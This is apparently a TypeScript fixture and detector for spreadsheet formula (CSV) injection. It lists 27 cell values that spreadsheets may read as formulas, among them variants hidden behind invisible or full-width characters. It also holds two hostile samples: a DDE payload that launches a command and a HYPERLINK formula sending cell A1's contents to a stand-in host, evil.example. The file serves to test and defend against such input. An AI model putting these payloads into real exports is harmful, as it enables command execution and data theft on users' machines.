/** What spreadsheets take for a formula, or may after they have dropped what nobody sees: 27, as they were measured. */
export const FORMULAS: readonly string[] = [
  ...[
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '  =1+1',
    '\u00A0=1+1',
    '\t=1+1',
    '\tx',
    '\r=1+1',
  ],
  ...['\n=1+1', '\0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u202E=1+1', '\u000B=1+1', '=\0 1+1', '\u2060=1+1'],
  ...[
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://evil.example?x="&A1;"x")',
    '"=1+1"',
    '";=1+1;"',
    '","=1+1","',
    "'\n=1+1",
  ],
];

/** The same without what PostgreSQL cannot hold. */
export const STORABLE = FORMULAS.filter((text) => !text.includes('\0'));

const INVISIBLE = /[\p{Cc}\p{Cf}]/gu;

/** Whether a cell would be read as a formula: after all that is invisible, and all blanks, are gone. */
export function isFormula(cell: string): boolean {
  return (
    /^[=+\-@＝＋－＠]/.test(cell.replace(INVISIBLE, '').trimStart()) && Number.isNaN(Number(cell.replace(',', '.')))
  );
}
